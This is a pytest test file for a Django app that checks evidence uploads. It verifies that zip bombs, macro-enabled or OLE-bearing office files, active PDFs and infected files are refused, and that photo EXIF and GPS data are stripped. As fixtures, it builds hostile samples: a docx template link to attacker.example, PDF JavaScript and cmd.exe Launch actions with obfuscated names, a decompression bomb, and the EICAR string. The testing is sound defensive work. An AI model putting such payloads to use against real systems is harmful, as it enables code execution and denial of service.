"""Safe evidence files, with real files built here: a decompression bomb costs the server
little memory and is refused; macros, OLE objects and outside templates are refused;
PDFs that act are refused; photos are kept without their EXIF (GPS included); a ClamAV
daemon, when configured, has the last word."""

import io
import os
import socket
import tempfile
import threading
import tracemalloc
import zipfile
import zlib

import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import ExifTags, Image, PngImagePlugin

from checklists import office_files
from checklists.checks import check_antivirus
from checklists.models import AuditAction, AuditEntry, Evidence

from ..factories import photo, start_project_checklist

pytestmark = pytest.mark.django_db

ODT = "application/vnd.oasis.opendocument.text"
MACROS = "holds macros or embedded objects"
OUTSIDE = "fetches a template or content from another address"
EXPANDS = "expands to far more than its size"


@pytest.fixture
def answer(office_a, staff_a, client):
    _project, checklist = start_project_checklist(office=office_a, staff=staff_a)
    client.force_login(staff_a)
    return checklist.answers.first()


def upload(client, answer, name, content):
    url = reverse("checklists:evidence", args=[answer.checklist_id, answer.pk])
    return client.post(url, {"file": SimpleUploadedFile(name, content)})


def assert_refused(response, message):
    assert response.status_code == 400
    assert message in response.content.decode()
    assert not Evidence.objects.exists()
    assert not AuditEntry.objects.filter(action=AuditAction.EVIDENCE_ADDED).exists()


def zip_of(parts: dict) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def docx(extra: dict) -> bytes:
    return zip_of(
        {"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>", **extra}
    )


def odt_bomb(megabytes: int) -> bytes:
    """An .odt whose mimetype member expands to ``megabytes`` MiB of zeros (the review's
    finding 8): a few hundred KB on the wire."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open("mimetype", "w", force_zip64=True) as member:
            block = bytes(1024 * 1024)
            for _ in range(megabytes):
                member.write(block)
        archive.writestr("content.xml", "<office:document-content/>")
    return buffer.getvalue()


def test_an_odt_bomb_is_refused_without_the_memory_it_would_take(client, answer):
    bomb = odt_bomb(300)
    assert len(bomb) < 1024 * 1024  # small on the wire
    tracemalloc.start()
    try:
        response = upload(client, answer, "minutes.odt", bomb)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 100 * 1024 * 1024, f"peak {peak / 1024 / 1024:.0f} MB"
    assert_refused(response, EXPANDS)


def test_an_opendocument_text_of_the_right_kind_is_kept(client, answer):
    content = zip_of({"mimetype": ODT, "content.xml": "<office:document-content/>"})
    assert upload(client, answer, "minutes.odt", content).status_code == 302
    assert Evidence.objects.get().name == "minutes.odt"


@pytest.mark.parametrize(
    "parts",
    [
        {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro project"},
        {"word/embeddings/oleObject1.bin": b"an embedded program"},
        {"word/media/image1.emf": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 OLE under another name"},
        {
            "[Content_Types].xml": '<Types><Override PartName="/word/x.dat" ContentType='
            '"application/vnd.ms-office.vbaProject"/><Default Extension="xml" ContentType='
            '"application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
            "word/x.dat": b"macros under another name",
        },
    ],
    ids=["vba-project", "ole-object", "ole-renamed", "declared-macro-enabled"],
)
def test_a_docx_with_a_macro_or_an_ole_object_is_refused(client, answer, parts):
    response = upload(client, answer, "minutes.docx", docx(parts))
    assert_refused(response, MACROS)


def test_a_spreadsheet_with_printer_settings_is_kept(client, answer):
    content = zip_of(
        {
            "xl/workbook.xml": "<workbook/>",
            "xl/printerSettings/printerSettings1.bin": b"\x00\x04 DEVMODE of the printer",
        }
    )
    assert upload(client, answer, "budget.xlsx", content).status_code == 302


def test_an_opendocument_with_basic_macros_is_refused(client, answer):
    content = zip_of(
        {"mimetype": ODT, "content.xml": "<x/>", "Basic/Standard/Module1.xml": "<script/>"}
    )
    assert_refused(upload(client, answer, "minutes.odt", content), MACROS)


def test_a_docx_with_an_outside_template_is_refused(client, answer):
    relationships = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
        'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    content = docx({"word/_rels/settings.xml.rels": relationships})
    assert_refused(upload(client, answer, "minutes.docx", content), OUTSIDE)
    # The same, its letters hidden as character references: Word decodes them, so do we.
    hidden = relationships.replace("attachedTemplate", "attached&#84;emplate")
    content = docx({"word/_rels/settings.xml.rels": hidden})
    assert_refused(upload(client, answer, "minutes.docx", content), OUTSIDE)


def test_a_docx_with_links_to_web_pages_is_kept(client, answer):
    relationships = (
        '<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/hyperlink" Target="https://example.org/" '
        'TargetMode="External"/></Relationships>'
    )
    content = docx({"word/_rels/document.xml.rels": relationships})
    assert upload(client, answer, "minutes.docx", content).status_code == 302


def test_too_many_parts_are_refused_before_the_directory_is_read(client, answer):
    parts = {f"word/part{n}.xml": "" for n in range(office_files.MAX_MEMBERS + 1)}
    content = docx(parts)
    assert_refused(upload(client, answer, "minutes.docx", content), EXPANDS)


PDF_HEAD = b"%PDF-1.7\n"
PDF_TAIL = b"trailer<<>>\n%%EOF\n"


def object_stream(body: bytes) -> bytes:
    packed = zlib.compress(body)
    return (
        b"5 0 obj<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
        + str(len(packed)).encode()
        + b">>stream\n"
        + packed
        + b"\nendstream endobj\n"
    )


@pytest.mark.parametrize(
    "body",
    [
        b"1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n",
        b"1 0 obj<</OpenAction<</S/J#61vaScript/JS(app.alert(1))>>>>endobj\n",
        b"1 0 obj<</S/Launch/F(cmd.exe)>>endobj\n",
        b"1 0 obj<</Names<</EmbeddedFiles 2 0 R>>>>endobj\n",
        object_stream(b"1 0 <</S/JavaScript/JS 9 0 R>>"),
        object_stream(b"1 0 <</S/JavaScript/JS 9 0 R>>").replace(b"/ObjStm", b"/Obj#53tm"),
    ],
    ids=[
        "javascript",
        "escaped-name",
        "launch",
        "embedded-file",
        "in-object-stream",
        "in-escaped-object-stream",
    ],
)
def test_a_pdf_that_acts_is_refused(client, answer, body):
    response = upload(client, answer, "report.pdf", PDF_HEAD + body + PDF_TAIL)
    assert_refused(response, "holds scripts, actions that start programs, or files inside it")


def test_a_pdf_object_stream_that_expands_too_much_is_refused(client, answer):
    body = object_stream(bytes(30 * 1024 * 1024))
    response = upload(client, answer, "report.pdf", PDF_HEAD + body + PDF_TAIL)
    assert_refused(response, "This PDF could not be checked")


def test_a_plain_pdf_with_an_object_stream_is_kept(client, answer):
    body = object_stream(b"1 0 <</Type/Page/Contents 4 0 R>>")
    assert upload(client, answer, "report.pdf", PDF_HEAD + body + PDF_TAIL).status_code == 302


def jpeg_with_gps() -> bytes:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "SafeHousePhone"
    exif[ExifTags.Base.Model] = "Model X-17"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (36.0, 20.0, 15.5)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (43.0, 7.0, 48.2)
    return photo("JPEG", size=(320, 240), exif=exif)


def test_a_jpeg_is_kept_without_its_gps_position_or_camera(client, answer):
    original = jpeg_with_gps()
    with Image.open(io.BytesIO(original)) as image:  # the test's photo does carry them
        assert image.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    assert upload(client, answer, "safe-house.jpg", original).status_code == 302
    evidence = Evidence.objects.get()
    stored = default_storage.open(evidence.file.name).read()
    assert evidence.size == len(stored)
    assert b"SafeHousePhone" not in stored and b"Exif" not in stored
    with Image.open(io.BytesIO(stored)) as image:
        assert image.format == "JPEG" and image.size == (320, 240)
        assert not image.getexif()
        assert not image.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    page = client.get(reverse("checklists:evidence", args=[answer.checklist_id, answer.pk]))
    assert "saved again without their hidden details" in page.content.decode()


def test_a_png_is_kept_without_its_text_and_exif(client, answer):
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Field officer Samira")
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "SafeHousePhone"
    original = photo("PNG", pnginfo=info, exif=exif)
    assert b"Samira" in original
    assert upload(client, answer, "site.png", original).status_code == 302
    stored = default_storage.open(Evidence.objects.get().file.name).read()
    assert b"Samira" not in stored and b"SafeHousePhone" not in stored
    assert b"eXIf" not in stored and b"tEXt" not in stored


def test_a_picture_of_too_many_pixels_is_refused_unopened(client, answer):
    buffer = io.BytesIO()
    Image.new("1", (6000, 5000)).save(buffer, format="PNG")
    assert_refused(upload(client, answer, "site.png", buffer.getvalue()), "million pixels")


class FakeClamd:
    """A ClamAV daemon's INSTREAM protocol on a unix socket: FOUND for files holding
    the EICAR marker, OK otherwise."""

    def __init__(self, path):
        self.server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.server.bind(path)
        self.server.listen()
        self.received = []
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            try:
                connection, _address = self.server.accept()
            except OSError:
                return
            with connection:
                data = b""
                while not data.endswith(b"\0\0\0\0") or len(data) < 14:
                    data += connection.recv(65536)
                self.received.append(data)
                found = b"EICAR" in data
                connection.sendall(
                    b"stream: Eicar-Test-Signature FOUND\0" if found else b"stream: OK\0"
                )

    def close(self):
        self.server.close()


@pytest.fixture
def clamd(settings):
    folder = tempfile.mkdtemp()
    path = os.path.join(folder, "clamd.ctl")
    daemon = FakeClamd(path)
    settings.EVIDENCE_CLAMAV_SOCKET = path
    yield daemon
    daemon.close()


def test_the_antivirus_refuses_what_it_finds_and_keeps_the_rest(client, answer, clamd):
    infected = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    assert_refused(upload(client, answer, "notes.txt", infected), "Eicar-Test-Signature")
    assert clamd.received[0].startswith(b"zINSTREAM\0")
    assert upload(client, answer, "notes.txt", b"Meeting with the committee.").status_code == 302
    assert len(clamd.received) == 2  # one scan per upload, though form and workflow both check


def test_an_antivirus_that_does_not_answer_keeps_nothing(client, answer, settings):
    settings.EVIDENCE_CLAMAV_SOCKET = "/nonexistent/clamd.ctl"
    response = upload(client, answer, "notes.txt", b"Meeting with the committee.")
    assert_refused(response, "The virus scan is not available just now")


def test_the_deploy_check_says_when_no_antivirus_is_configured(settings):
    settings.EVIDENCE_CLAMAV_SOCKET = ""
    assert [warning.id for warning in check_antivirus()] == ["pmapp.W003"]
    settings.EVIDENCE_CLAMAV_SOCKET = "/run/clamav/clamd.ctl"
    assert check_antivirus() == []


def test_a_photo_keeps_which_way_is_up_and_nothing_else(client, answer):
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.Base.Make] = "SafeHousePhone"
    exif.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitudeRef] = "N"
    assert upload(client, answer, "site.jpg", photo("JPEG", exif=exif)).status_code == 302
    stored = default_storage.open(Evidence.objects.get().file.name).read()
    with Image.open(io.BytesIO(stored)) as image:
        assert dict(image.getexif()) == {ExifTags.Base.Orientation: 6}
    assert b"SafeHousePhone" not in stored


MEASURE_CLEANING = """
import os, sys
import django
os.environ["DJANGO_SETTINGS_MODULE"] = "pmapp.settings"
os.environ["DEBUG"] = "true"
django.setup()
from django.core.files.uploadedfile import SimpleUploadedFile
from checklists import evidence_files
def high_water():
    return int(open("/proc/self/status").read().split("VmHWM:")[1].split()[0]) * 1024
upload = SimpleUploadedFile("site.png", open(sys.argv[1], "rb").read())
before = high_water()
evidence_files.check_content(upload, "image/png")
evidence_files.cleaned(upload, "image/png").read()
print(high_water() - before)
"""


def test_the_largest_photo_accepted_costs_under_100_mb(tmp_path):
    """A photo is decoded to be saved again: the largest accepted, with transparency and
    an orientation to keep, measured in a process of its own (Pillow's memory is not
    Python's, so tracemalloc would not see it)."""
    import subprocess
    import sys
    from pathlib import Path

    from checklists.evidence_files import MAX_IMAGE_PIXELS

    side = int(MAX_IMAGE_PIXELS**0.5)
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    path = tmp_path / "site.png"
    Image.new("RGBA", (side, side)).save(path, format="PNG", exif=exif)
    root = Path(__file__).resolve().parents[2]
    done = subprocess.run(
        [sys.executable, "-c", MEASURE_CLEANING, str(path)],
        cwd=root,
        capture_output=True,
        text=True,
        check=True,
    )
    assert int(done.stdout.strip().splitlines()[-1]) < 100 * 1024 * 1024
